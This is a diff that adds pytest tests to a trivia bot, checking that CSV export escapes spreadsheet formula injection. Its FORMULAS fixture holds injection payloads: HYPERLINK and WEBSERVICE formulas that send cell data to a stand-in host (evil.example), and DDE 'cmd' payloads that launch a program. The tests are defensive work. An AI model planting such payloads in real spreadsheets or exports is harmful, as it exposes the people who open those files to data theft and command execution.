@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from bot.domain import Locale
+from bot.domain import Locale, Question
 from bot.errors import UserFacingError
 from questions.tabular import CSV_COLUMNS, kebab
 from questions.team import TeamQuestions, export_csv, export_yaml
@@ -189,3 +189,52 @@ def test_kebab_topics_from_categories() -> None:
     assert kebab("Entertainment: Japanese Anime & Manga") == "entertainment-japanese-anime-manga"
     assert len(kebab("x" * 30 + " " + "y" * 30)) <= 40
     assert kebab("Ελληνικά") == "trivia"
+
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=WEBSERVICE("https://evil.example/"&B2)',
+    "-2+3+cmd|' /C calc'!A0",
+)
+
+
+def submitted(prompt: str, choices: list[str], explanation: str) -> Question:
+    """A question as a member's `/quiz submit` stores it (the same checker as a file)."""
+    data = {
+        "id": "q",
+        "topic": "t",
+        "difficulty": 1,
+        "answer": 0,
+        "en": {"prompt": prompt, "choices": choices, "explanation": explanation},
+    }
+    (q,) = READER.read("q.yaml", yaml.safe_dump(data).encode()).questions
+    return q
+
+
+def test_exported_csv_cells_never_start_a_formula_and_read_back_whole() -> None:
+    questions = [
+        submitted(FORMULAS[0], [FORMULAS[1], FORMULAS[2], "-1"], FORMULAS[3]),
+        submitted("'=' assigns; what does '==' do?", ["compares", "-0.5", FORMULAS[4]], "@x"),
+        submitted("\tTabbed?", ["\rcarriage", "\uff1dfull-width"], "''+quoted twice"),
+    ]
+    text, _ = export_csv(questions)
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + FORMULAS[1] in cells and "'-1" in cells
+    assert "''=' assigns; what does '==' do?" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d")]
+    back = READER.read("questions.csv", text.encode()).questions
+    assert back == tuple(questions)
+    assert back[0].text(Locale.EN).choices[2] == "-1"  # a legitimate negative number
+    assert back[1].text(Locale.EN).prompt == "'=' assigns; what does '==' do?"
+
+
+def test_a_cell_quoted_against_formulas_imports_without_the_quote() -> None:
+    guarded = ROW.replace("gpu-a", "'-1").replace("Which node", "'=Which node")
+    (q,) = READER.read("q.csv", f"{HEADER}\n{guarded}\n".encode()).questions
+    assert q.text(Locale.EN).choices[0] == "-1"
+    assert q.text(Locale.EN).prompt.startswith("=Which node")
+    kept = ROW.replace("gpu-a", "'quoted'")  # a quote before ordinary text is text
+    (q,) = READER.read("q.csv", f"{HEADER}\n{kept}\n".encode()).questions
+    assert q.text(Locale.EN).choices[0] == "'quoted'"
